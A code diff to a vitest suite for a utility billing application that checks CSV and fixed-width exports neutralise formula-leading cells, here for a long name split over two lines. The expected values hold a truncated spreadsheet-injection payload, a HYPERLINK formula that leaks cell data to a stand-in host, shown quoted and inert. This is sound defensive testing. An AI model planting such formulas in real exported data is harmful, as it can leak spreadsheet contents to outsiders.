@@ -10,7 +10,7 @@ import { readFileSync } from 'node:fs';
 import { join, resolve } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { fixedClock } from '../../src-main/core/clock';
-import { DETAIL_FIELDS, detailField } from '../../src-main/core/billing/print/fixed-width';
+import { DETAIL_FIELDS, RECORD_LENGTH, detailField } from '../../src-main/core/billing/print/fixed-width';
 import { periodMinusMonths } from '../../src-main/core/reads/validate';
 import { expectExit, runCli } from '../support/cli';
 import { TEST_PASSWORD, TEST_USERS, createTestOffice, type TestOffice } from '../support/office';
@@ -86,7 +86,10 @@ describe('formula-leading cells in the files the office writes', () => {
     const runId = await postRun(o);
     const exported = await o.as('technician').must('billing.export', { runId, format: 'csv' });
     const hostile = records(exported.content).find((item) => item.account === accountNumber)!;
-    expect([hostile.name, hostile.mailing_street, hostile.mailing_city, hostile.service_street]).toEqual([`'${FIRST} ${LAST}`, `'${STREET}`, `'${CITY}`, `'${STREET}`]);
+    // The 47-character name takes two lines (the shortening rule): each line is quoted on its own.
+    expect([hostile.name, hostile.name_line_2, hostile.mailing_street, hostile.mailing_city, hostile.service_street]).toEqual([
+      `'${FIRST}`, `'=HYPERLINK("http://x/?"&A1...`, `'${STREET}`, `'${CITY}`, `'${STREET}`,
+    ]);
     // 11 HCF: $38.55 + $51.45 + 1 × $10.0275 = $100.03.
     expect([hostile.usage_hcf, hostile.previous_balance, hostile.current_charges, hostile.amount_due, hostile.line_1_amount]).toEqual(['11', '0.00', '100.03', '100.03', '38.55']);
     expect(liveCells(parse(exported.content) as string[][])).toEqual([]);
@@ -97,9 +100,10 @@ describe('formula-leading cells in the files the office writes', () => {
     const runId = await postRun(o);
     const exported = await o.as('technician').must('billing.export', { runId, format: 'fixed' });
     const hostile = exported.content.split('\r\n').find((line) => line.startsWith(`D${accountNumber}`))!;
-    expect(hostile).toHaveLength(698);
-    // The quote goes on first, then the field is cut: a 30-character name keeps 29 of the value.
-    expect(detailField(hostile, 'name')).toBe(`'${FIRST} ${LAST}`.slice(0, 30));
+    expect(hostile).toHaveLength(RECORD_LENGTH);
+    // The quote counts in the width: the name's first line, then its second, cut and marked within 30.
+    expect(detailField(hostile, 'name')).toBe(`'${FIRST}`.padEnd(30));
+    expect(detailField(hostile, 'nameLine2')).toBe(`'=HYPERLINK("http://x/?"&A1...`);
     expect(detailField(hostile, 'mailingStreet')).toBe(`'${STREET}`.padEnd(30));
     expect(detailField(hostile, 'serviceStreet')).toBe(`'${STREET}`.padEnd(30));
     expect(detailField(hostile, 'mailingCity')).toBe(`'${CITY}`.padEnd(20));
@@ -120,7 +124,7 @@ describe('formula-leading cells in the files the office writes', () => {
     const printFile = join(o.folder, 'print.csv');
     expectExit(await cli(['billing', 'export', String(runId), '--format', 'csv', '--out', printFile]), 0);
     const printed = readFileSync(printFile, 'utf8');
-    expect(records(printed).find((item) => item.account === accountNumber)!.name).toBe(`'${FIRST} ${LAST}`);
+    expect(records(printed).find((item) => item.account === accountNumber)!.name).toBe(`'${FIRST}`);
     expect(liveCells(parse(printed) as string[][])).toEqual([]);
     // The route file of December, when every meter of the cycle is still to read.
     const routeFile = join(o.folder, 'route.csv');
